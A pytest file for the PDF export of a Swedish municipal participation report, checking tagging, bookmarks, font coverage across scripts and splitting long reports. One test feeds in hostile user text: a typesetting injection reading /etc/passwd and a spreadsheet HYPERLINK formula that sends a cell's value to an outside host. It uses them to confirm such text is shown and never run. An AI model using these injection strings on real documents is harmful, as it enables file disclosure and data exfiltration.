"""The report in PDF: tagged, with bookmarks, whatever anybody wrote and in whatever script."""

import io
import zipfile

import pytest
from pypdf import PdfReader

from participation.export.formats import pdf
from participation.export.formats.coverage import drawn
from participation.export.formats.pdf import IN_BASIC_FONT, PdfDocument
from participation.export.package import write_package
from tests.export.packages import (
    HOSTILE_TEXTS,
    MADE_AT,
    make_internal_package,
    make_internal_voice,
    make_public_package,
    make_public_voice,
)

SCRIPTS = {
    "sv": "Lekplats vid ån, för små å stora.",
    "ar": "حديقة",
    "ti": "ትግርኛ",
    "th": "ภาษาไทย",
    "he": "עברית",
    "el": "Ωμέγα",
    "ru": "Привет",
    "ka": "ქართული",
    "hi": "हिन्दी",
}


def reports(content, folder) -> list[PdfReader]:
    """The PDF files of a package in their order."""
    names = write_package(content, folder / "package.zip").names
    with zipfile.ZipFile(folder / "package.zip") as archive:
        return [PdfReader(io.BytesIO(archive.read(name))) for name in names if name.endswith(".pdf")]


def words_of(report: PdfReader) -> str:
    return "\n".join(page.extract_text() for page in report.pages)


def kinds_of_tags(report: PdfReader) -> set[str]:
    """The structure types in the tree of tags."""
    found, waiting = set(), [report.root_object["/StructTreeRoot"]]
    while waiting:
        node = waiting.pop().get_object()
        if isinstance(node, list):
            waiting += node
        elif isinstance(node, dict):
            found.add(node.get("/S"))
            waiting += [node["/K"]] if "/K" in node else []
    return found


def document(folder, **more) -> PdfDocument:
    about = {"title": "Prov", "author": "Kommunen", "made_at": MADE_AT, "accent": "a13a14", "mark": ""}
    return PdfDocument(folder / "rapport.pdf", **about | more)


def test_it_is_tagged_and_says_its_title_language_and_standard(tmp_path) -> None:
    (report,) = reports(make_public_package(make_public_voice()), tmp_path)
    assert report.root_object["/Lang"] == "sv-SE"
    assert report.root_object["/MarkInfo"]["/Marked"]
    assert report.root_object["/ViewerPreferences"]["/DisplayDocTitle"]
    assert report.metadata.title == "Framtid Getinge: underlag till steg 5"
    assert report.metadata.author == "Halmstads kommun"
    assert "<pdfuaid:part>1<" in report.xmp_metadata.stream.get_data().decode()
    assert kinds_of_tags(report) >= {
        "/Document",
        "/H1",
        "/P",
        "/Table",
        "/TR",
        "/TH",
        "/TD",
        "/TOC",
        "/Caption",
    }


def test_its_bookmarks_are_its_headings(tmp_path) -> None:
    (report,) = reports(make_public_package(make_public_voice()), tmp_path)
    marks = [mark["/Title"] for mark in report.outline if not isinstance(mark, list)]
    assert marks[:2] == ["Så läser du rapporten", "Översikt"]
    assert marks[-1] == "Bilaga: revideringens steg"


def test_it_says_what_the_word_file_says(tmp_path) -> None:
    voices = [make_public_voice(number, text=f"Bänk nummer {number}") for number in range(3)]
    (report,) = reports(make_public_package(*voices), tmp_path)
    words = words_of(report)
    assert all(f"Bänk nummer {number}" in words for number in range(3))
    assert "Framtid Getinge" in words


def test_the_internal_one_says_so_on_every_page_but_the_first(tmp_path) -> None:
    (report,) = reports(make_internal_package(make_internal_voice()), tmp_path)
    assert "INTERN" in report.pages[0].extract_text()
    assert all("INTERN" in page.extract_text() for page in report.pages[1:])


def test_what_people_write_is_shown_and_never_run(tmp_path) -> None:
    code = '#panic("x") #read("/etc/passwd") *fet* $x^2$ <label> @ref = Rubrik // \\ `kod`'
    voices = [make_public_voice(number, text=text) for number, text in enumerate((code, *HOSTILE_TEXTS))]
    (report,) = reports(make_public_package(*voices), tmp_path)
    words = " ".join(words_of(report).split())
    assert code in words
    assert "root:" not in words
    unbroken = words.replace(" ", "").replace("\u200b", "")
    assert '=HYPERLINK("http://exempel.se?x="&A1,"klicka")' in unbroken


def test_every_script_that_a_font_is_carried_for_is_there(tmp_path) -> None:
    voices = [
        make_public_voice(number, text=text, language_code=code)
        for number, (code, text) in enumerate(SCRIPTS.items())
    ]
    (report,) = reports(make_public_package(*voices), tmp_path)
    words = words_of(report)
    for code, text in SCRIPTS.items():
        # Marks that stand on a letter may be told beside it; every letter is there.
        assert set(text) - set(words) == set(), code
    assert "Tecken som inte kunde ritas" not in words


def test_what_no_font_has_is_told_and_never_silently_gone(tmp_path) -> None:
    (report,) = reports(make_public_package(make_public_voice(text="Bänk 你 här")), tmp_path)
    words = words_of(report)
    assert "Bänk □ här" in words
    assert "U+4F60 CJK UNIFIED IDEOGRAPH-4F60" in words


@pytest.mark.parametrize(
    ("text", "shown", "missing"),
    [
        ("Åäö – “”", "Åäö – “”", set()),
        ("👩‍👩‍👧‍👦 ❤️ 🇸🇪 1️⃣", "👩‍👩‍👧‍👦 ❤️ 🇸🇪 1️⃣", set()),
        ("Z" + "\u0301" * 60, "Z" + "\u0301" * 60, set()),
        ("a你b", "a□b", {"你"}),
        ("⌮\u0301", "□", {"⌮", "\u0301"}),
        ("\ue000", "□", {"\ue000"}),
    ],
)
def test_signs_are_drawn_by_one_font_with_their_marks(text, shown, missing) -> None:
    assert drawn(text) == (shown, missing)


def test_one_text_that_cannot_be_typeset_does_not_keep_the_others_from_being_read(tmp_path) -> None:
    with document(tmp_path) as report:
        report.paragraph("Title", "Prov")
        report.paragraph("Röst", "En bänk vid ån")
        # What the reading of the fonts would have caught, had it not been wrong.
        report._blocks.append({"style": "Röst", "parts": [("你", "")], "language": "", "rtl": False})
        assert report.save() == {"rapport.pdf": 1}
    words = " ".join(words_of(PdfReader(tmp_path / "rapport.pdf")).split())
    assert "En bänk vid ån" in words
    assert IN_BASIC_FONT in words


def test_a_long_report_goes_on_in_another_file(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(pdf, "VOICES_IN_A_FILE", 2)
    with document(tmp_path) as report:
        report.paragraph("Title", "Prov")
        report.paragraph("Heading 1", "Natur")
        for number in range(5):
            report.paragraph("Röst", f"Röst nummer {number}")
        assert report.save() == {"rapport.pdf": 2, "rapport-del-2.pdf": 2, "rapport-del-3.pdf": 1}
    first, second = (words_of(PdfReader(tmp_path / name)) for name in ("rapport.pdf", "rapport-del-2.pdf"))
    assert "Rapporten fortsätter i rapport-del-2.pdf." in first
    assert "Natur (fortsättning)" in second
    assert "Röst nummer 2" in second
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "rapport-del-2.pdf", "rapport-del-3.pdf", "rapport.pdf",
    ]  # fmt: skip
